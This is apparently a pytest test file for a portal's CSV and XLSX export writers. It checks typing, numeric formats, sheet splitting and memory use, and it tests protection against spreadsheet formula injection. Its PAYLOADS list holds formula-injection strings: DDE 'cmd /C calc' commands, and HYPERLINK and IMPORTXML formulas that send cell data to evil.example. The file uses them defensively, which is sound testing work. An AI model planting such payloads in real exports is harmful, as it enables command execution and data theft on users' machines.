"""Files are typed, inert, and hold exactly what they were given."""

from __future__ import annotations

import csv
import random
import re
import subprocess
import sys
import textwrap
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from portal.lists import writers
from portal.lists.writers import Field, Kind, as_xlsx, guard, unguard, write

FIELDS = (
    Field("Numero"),
    Field("Canone €", Kind.NUMBER, places=2),
    Field("Dal", Kind.DATE),
    Field("Richiesto", Kind.INSTANT),
)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
PAYLOADS = (
    '=HYPERLINK("http://evil.example/"&A1,"clic")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    '";=1+1;"',
    "'=1+1",
    "＝1+1",
    "_x003D_1+1",
    "<f>1+1</f>",
    "]]><c><f>1+1</f></c>",
)


def read_csv(path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, delimiter=";"))


def read_xlsx(path) -> list[list]:
    return [list(row) for row in openpyxl.load_workbook(path).active.iter_rows()]


def payloads(count: int) -> list[str]:
    """Known attacks, and as many variations as wanted; the seed makes a failure repeatable."""
    chance = random.Random(20261120)
    made = list(PAYLOADS)
    while len(made) < count:
        tail = "".join(chance.choices("ABC123()!|'\" ;,\t$&<>+-=@", k=chance.randint(1, 30)))
        made.append(chance.choice((*DANGEROUS, "'", " ", "")) + chance.choice((*PAYLOADS, "")) + tail)
    return made


def cleaned(text: str) -> str:
    """What xlsx can hold of a text."""
    return "".join(c for c in text.replace("\r\n", "\n") if c in "\t\n" or c >= " ")


@pytest.mark.accepts("A-S17-2")
def test_a_thousand_hostile_texts_are_inert_and_read_back_whole(tmp_path):
    texts = payloads(1000)
    fields = (Field("=1+1"), Field("@Nota"))
    rows = [(text, text) for text in texts]
    assert write("csv", tmp_path / "a.csv", fields, rows) == 1000
    header, *found = read_csv(tmp_path / "a.csv")
    assert header == ["'=1+1", "'@Nota"]
    for text, row in zip(texts, found, strict=True):
        for cell in row:
            assert not cell.startswith(DANGEROUS), text
            assert unguard(cell) == text

    write("xlsx", tmp_path / "a.xlsx", fields, rows)
    assert "<f" not in _sheet_markup(tmp_path / "a.xlsx")
    header, *found = read_xlsx(tmp_path / "a.xlsx")
    assert [(c.value, c.data_type) for c in header] == [("=1+1", "s"), ("@Nota", "s")]
    for text, row in zip(texts, found, strict=True):
        for cell in row:
            assert cell.data_type in ("s", "n")
            assert unescape(cell.value or "") == cleaned(text), text


def _sheet_markup(path) -> str:
    """The sheet without its texts: a formula would be an element."""
    return re.sub(r"<t[ >].*?</t>", "", _whole_sheet(path), flags=re.DOTALL)


def _whole_sheet(path) -> str:
    with zipfile.ZipFile(path) as archive:
        names = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        return "".join(archive.read(n).decode() for n in names)


@given(st.text(max_size=60))
def test_the_guard_never_loses_a_text(text):
    assert unguard(guard(text)) == text
    assert not guard(text).startswith(DANGEROUS)


@pytest.mark.accepts("A-B01-1")
def test_cells_are_typed_and_numbers_survive(tmp_path):
    when = datetime(2026, 7, 1, 22, 30, tzinfo=UTC)
    rows = [
        ("+393312547228", Decimal("-1234.50"), date(2026, 11, 20), when),
        ("3312547228", Decimal("0"), None, None),
        ("0039", None, date(2025, 1, 1), when),
    ]
    write("xlsx", tmp_path / "a.xlsx", FIELDS, rows)
    header, *found = read_xlsx(tmp_path / "a.xlsx")
    assert [c.value for c in header] == ["Numero", "Canone €", "Dal", "Richiesto"]
    first = found[0]
    assert [c.data_type for c in first] == ["s", "n", "d", "d"]
    assert [c.value for c in first] == [
        "+393312547228",
        -1234.5,
        datetime(2026, 11, 20),
        datetime(2026, 7, 2, 0, 30),  # Rome, summer time
    ]
    assert first[1].number_format == "#,##0.00"
    assert first[2].number_format == "dd/mm/yyyy"
    assert [c.value for c in found[1]] == ["3312547228", 0, None, None]
    assert found[2][0].value == "0039"

    write("csv", tmp_path / "a.csv", FIELDS, rows)
    header, *found = read_csv(tmp_path / "a.csv")
    assert found[0] == ["'+393312547228", "-1234,50", "20/11/2026", "02/07/2026 00:30:00"]
    assert unguard(found[0][0]) == "+393312547228"
    assert found[1] == ["3312547228", "0", "", ""]
    assert (tmp_path / "a.csv").read_bytes().startswith(b"\xef\xbb\xbfNumero;Canone")


def test_what_a_cell_cannot_hold_does_not_break_the_file(tmp_path):
    rows = [
        ("x" * 40_000, float("nan"), date(1899, 1, 1), None),
        ("\ud800 solo", 12345678901234567890, None, None),
        ("\x01\x0b\x1f\ufffe", "non un numero", None, None),
    ]
    write("xlsx", tmp_path / "a.xlsx", FIELDS, rows)
    found = read_xlsx(tmp_path / "a.xlsx")[1:]
    assert len(found[0][0].value) == 32_767
    assert found[0][1].value is None
    assert found[0][2].value == "01/01/1899"
    assert found[1][0].value == " solo"
    assert found[1][1].value == "12345678901234567890"  # all its digits
    assert found[2][1].value == "non un numero"
    assert write("csv", tmp_path / "a.csv", FIELDS, rows) == 3
    assert read_csv(tmp_path / "a.csv")[2][1] == "12345678901234567890"


def test_an_empty_list_still_has_its_header(tmp_path):
    assert write("csv", tmp_path / "a.csv", FIELDS, []) == 0
    assert read_csv(tmp_path / "a.csv") == [[f.header for f in FIELDS]]
    assert write("xlsx", tmp_path / "a.xlsx", FIELDS, []) == 0
    header, *rest = read_xlsx(tmp_path / "a.xlsx")
    assert [c.value for c in header] == [f.header for f in FIELDS]
    assert all(c.value is None for row in rest for c in row)


def test_two_columns_may_have_the_same_header(tmp_path):
    write("xlsx", tmp_path / "a.xlsx", (Field("Stato"), Field("Stato")), [("uno", "due")])
    assert [[c.value for c in r] for r in read_xlsx(tmp_path / "a.xlsx")] == [
        ["Stato", "Stato"],
        ["uno", "due"],
    ]


def test_more_rows_than_a_sheet_holds_go_on_the_next(tmp_path, monkeypatch):
    monkeypatch.setattr(as_xlsx, "SHEET_ROWS", 1000)
    rows = ((str(i), i, None, None) for i in range(2500))
    assert write("xlsx", tmp_path / "a.xlsx", FIELDS, rows) == 2500
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    assert book.sheetnames == ["Dati", "Dati 2", "Dati 3"]
    assert [sheet.max_row for sheet in book] == [1001, 1001, 501]
    assert [sheet["A2"].value for sheet in book] == ["0", "1000", "2000"]
    assert all(sheet["A1"].value == "Numero" for sheet in book)


def test_a_sheet_too_large_for_a_plain_zip_goes_on_the_next(tmp_path, monkeypatch):
    monkeypatch.setattr(as_xlsx, "SHEET_BYTES", 150_000)
    write("xlsx", tmp_path / "a.xlsx", FIELDS, ((str(i), i, None, None) for i in range(2500)))
    sheets = openpyxl.load_workbook(tmp_path / "a.xlsx").worksheets
    assert len(sheets) > 1
    found = [row[0] for sheet in sheets for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert found == [str(i) for i in range(2500)]


def test_texts_keep_their_spaces_and_lines_and_numbers_among_texts_their_type(tmp_path):
    texts = ("plain", "  two before", "after ", "a\nb\tc", "<b> & ]]>", "a | b", "", None, "caffè €", 7)
    numbers = (1, 2.5, Decimal("1E+3"), Decimal("NaN"), True, "n.d.", None, float("inf"), 10**15, -(10**14))
    fields = (Field("Nota"), Field("Cifra", Kind.NUMBER))
    write("xlsx", tmp_path / "a.xlsx", fields, list(zip(texts, numbers, strict=True)))
    found = read_xlsx(tmp_path / "a.xlsx")[1:]
    assert [row[0].value for row in found] == [*texts[:6], None, None, "caffè €", "7"]
    assert [row[1].value for row in found] == [
        1,
        2.5,
        1000,
        None,
        "True",
        "n.d.",
        None,
        None,
        str(10**15),
        -(10**14),
    ]
    assert '<t xml:space="preserve">  two before</t>' in _whole_sheet(tmp_path / "a.xlsx")


def test_the_header_stays_and_filters_and_numbers_of_lines_raise_no_warning(tmp_path):
    rows = [("3312547228", Decimal(1), None, None)] * 3
    write("xlsx", tmp_path / "a.xlsx", FIELDS, rows)
    sheet = openpyxl.load_workbook(tmp_path / "a.xlsx").active
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:D4")
    assert sheet["A1"].font.bold and not sheet["A2"].font.bold
    assert sheet["A2"].number_format == "@"
    assert sheet.column_dimensions["D"].width == 20
    assert '<ignoredError sqref="A1:A4" numberStoredAsText="1"/>' in _whole_sheet(tmp_path / "a.xlsx")


def test_a_fault_among_the_rows_is_told_as_it_is(tmp_path):
    def rows():
        yield from [("1", 1, None, None)] * 1500
        raise OSError("the disk is full")

    with pytest.raises(OSError, match="the disk is full"):
        write("xlsx", tmp_path / "a.xlsx", FIELDS, rows())


@pytest.mark.parametrize("file_format", writers.FORMATS)
def test_memory_does_not_grow_with_the_rows(tmp_path, file_format):
    """Ten times the rows, in processes of their own: the peak may not move by more than 4 MB."""
    few, many = (_peak_kilobytes(tmp_path, file_format, rows) for rows in (10_000, 100_000))
    assert many - few <= 4 * 1024


def _peak_kilobytes(folder, file_format: str, rows: int) -> int:
    program = f"""
        import os, resource
        from decimal import Decimal
        import django
        os.environ["DJANGO_SETTINGS_MODULE"] = "portal.settings"
        django.setup()
        from portal.lists.writers import Field, Kind, write
        fields = [Field("a"), Field("b"), Field("c", Kind.NUMBER, places=2)]
        write("{file_format}", "{folder}/m", fields, ((str(i), "RICARICABILE", Decimal(i)) for i in range({rows})))
        print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
    """
    result = subprocess.run(
        [sys.executable, "-c", textwrap.dedent(program)], capture_output=True, text=True, check=True
    )
    return int(result.stdout) // (1024 if sys.platform == "darwin" else 1)
